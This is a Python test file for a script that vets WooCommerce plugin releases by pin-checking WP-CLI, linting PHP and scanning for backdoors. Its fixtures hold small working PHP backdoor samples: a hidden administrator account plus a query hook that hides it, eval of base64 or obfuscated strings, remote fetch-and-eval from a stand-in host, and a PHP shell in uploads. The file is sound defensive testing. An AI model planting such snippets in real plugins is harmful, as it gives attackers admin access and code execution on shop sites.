"""scripts/store-acceptance's checks of the files it is given (its step 1,
`--verify-only`), and its skip path: a WP-CLI phar off its pin, a WooCommerce
PHP file php -l rejects and each kind of backdoor pattern stop it; a clean
plugin passes; without files `--skip-if-missing` prints skipped and exits 0.
Small files written here (the real release is not on the build machines);
the full harness is run by hand (docs/store-acceptance.md)."""

import hashlib
import os
import shutil
import subprocess
import tempfile
import unittest

from chart import ROOT

SCRIPT = os.path.join(ROOT, "scripts", "store-acceptance")

CLEAN = {
    "woocommerce.php": "<?php\n/**\n * Plugin Name: WooCommerce\n * Version: 10.2.4\n */\n",
    # the clean plugin's own matches of two rules, in the files they are allowed in
    "includes/wc-user-functions.php":
        "<?php\nfunction wc_create_new_customer() { return wp_insert_user(array('role' => 'customer')); }\n"
        "function wc_roles() { return array('administrator', 'shop_manager'); }\n",
    "src/Internal/Admin/Schedulers/CustomersScheduler.php":
        "<?php\nadd_action('pre_user_query', array(__CLASS__, 'exclude_existing_customers_from_query'));\n",
    "includes/class-wc-cart.php": "<?php\nclass WC_Cart { public function evaluate() { return 1; } }\n",
}

BACKDOORS = {
    "hidden admin creation": ("includes/class-wc-support.php",
                              "<?php\nadd_action('init', function () {\n  $id = wp_create_user('wpsupport', 'x', 'a@b.c');\n"
                              "  $u = new WP_User($id);\n  $u->set_role('administrator');\n});\n",
                              "user creation + administrator"),
    "base64_decode + eval": ("includes/compat.php", "<?php\neval(base64_decode('ZWNobyAxOw=='));\n",
                             "eval/create_function/assert of a string"),
    "users hidden from the list": ("includes/admin/users.php",
                                   "<?php\nadd_action('pre_user_query', function ($q) {\n"
                                   "  $q->query_where .= \" AND user_login != 'wpsupport'\";\n});\n",
                                   "pre_user_query hook"),
    "remote fetch + eval": ("includes/updater.php",
                            "<?php\n$r = wp_remote_get('http://x.example/p');\neval(wp_remote_retrieve_body($r));\n",
                            "eval/create_function/assert of a string"),
    "gzinflate": ("includes/blob.php", "<?php\n$x = gzinflate(str_rot13('abc'));\n", "obfuscation"),
    "PHP in uploads": ("assets/uploads/shell.php", "<?php\necho 1;\n", "PHP under a name or place"),
}


def write_tree(root, files):
    for rel, text in files.items():
        path = os.path.join(root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            fh.write(text)


class Verify(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.mkdtemp(prefix="store-acceptance-verify-")
        self.addCleanup(shutil.rmtree, self.dir, ignore_errors=True)
        self.wordpress = os.path.join(self.dir, "wordpress")
        write_tree(self.wordpress, {"wp-includes/version.php": "<?php\n$wp_version = '6.8.3';\n"})
        self.phar = os.path.join(self.dir, "wp-cli.phar")
        with open(self.phar, "w") as fh:
            fh.write("<?php echo \"WP-CLI 2.10.0-test\\n\";\n")
        with open(self.phar, "rb") as fh:
            self.sha = hashlib.sha512(fh.read()).hexdigest()
        self.plugin = os.path.join(self.dir, "woocommerce")
        write_tree(self.plugin, CLEAN)

    def verify(self, *extra, sha=None, plugin=None, env=None):
        cmd = [SCRIPT, "--verify-only", "--wordpress", self.wordpress, "--woocommerce", plugin or self.plugin,
               "--wp-cli", self.phar, "--wp-cli-sha512", sha or self.sha, "--out", os.path.join(self.dir, "out"),
               *extra]
        full_env = {**os.environ, "STOREFLEET_CACHE": os.path.join(self.dir, "cache"), **(env or {})}
        return subprocess.run(cmd, capture_output=True, text=True, env=full_env, timeout=300)

    def test_a_clean_plugin_passes_and_is_zipped(self):
        r = self.verify()
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        self.assertIn("WP-CLI 2.10.0-test, sha512 = the pin", r.stdout)
        self.assertIn("WooCommerce 10.2.4, php -l: 4 files, no error", r.stdout)
        self.assertIn("PASS  woocommerce-backdoor-scan", r.stdout)
        self.assertTrue(os.path.exists(os.path.join(self.dir, "out", "woocommerce-10.2.4.zip")))

    def test_a_phar_off_its_pin_is_not_run(self):
        r = self.verify(sha="0" * 128)
        self.assertNotEqual(r.returncode, 0)
        self.assertIn(f"has sha512 {self.sha}, not the pinned {'0' * 128}: not running it", r.stderr)
        self.assertNotIn("2.10.0-test", r.stdout + r.stderr, "the phar ran")

    def test_a_file_php_refuses_stops_it(self):
        write_tree(self.plugin, {"includes/broken.php": "<?php\nfunction ( {\n"})
        r = self.verify()
        self.assertNotEqual(r.returncode, 0)
        self.assertIn("php -l failed on WooCommerce files", r.stderr)
        self.assertIn("broken.php", r.stderr)

    def test_each_backdoor_pattern_stops_it(self):
        for kind, (rel, text, rule) in BACKDOORS.items():
            with self.subTest(kind):
                plugin = os.path.join(self.dir, kind.replace(" ", "-"), "woocommerce")
                shutil.copytree(self.plugin, plugin)
                write_tree(plugin, {rel: text})
                r = self.verify(plugin=plugin)
                self.assertNotEqual(r.returncode, 0, f"{kind} passed:\n{r.stdout}")
                self.assertIn("matches backdoor patterns", r.stderr)
                self.assertIn(rule, r.stderr)
                self.assertIn(rel, r.stderr)

    def test_a_zip_is_checked_the_same_way(self):
        write_tree(self.plugin, {BACKDOORS["hidden admin creation"][0]: BACKDOORS["hidden admin creation"][1]})
        zip_path = os.path.join(self.dir, "woocommerce.zip")
        subprocess.run(["zip", "-qr", zip_path, "woocommerce"], cwd=self.dir, check=True)
        r = self.verify(plugin=zip_path)
        self.assertNotEqual(r.returncode, 0)
        self.assertIn("user creation + administrator: includes/class-wc-support.php", r.stderr)

    def test_without_files_make_test_skips(self):
        env = {k: v for k, v in os.environ.items() if not k.startswith("STOREFLEET_ACCEPTANCE_")}
        r = subprocess.run([SCRIPT, "--skip-if-missing"], capture_output=True, text=True, env=env, timeout=60)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertTrue(r.stdout.startswith("skipped: store-acceptance needs"), r.stdout)
        r = subprocess.run([SCRIPT], capture_output=True, text=True, env=env, timeout=60)
        self.assertNotEqual(r.returncode, 0, "without --skip-if-missing, missing files are an error")
        self.assertIn("usage: scripts/store-acceptance", r.stderr)


if __name__ == "__main__":
    unittest.main()
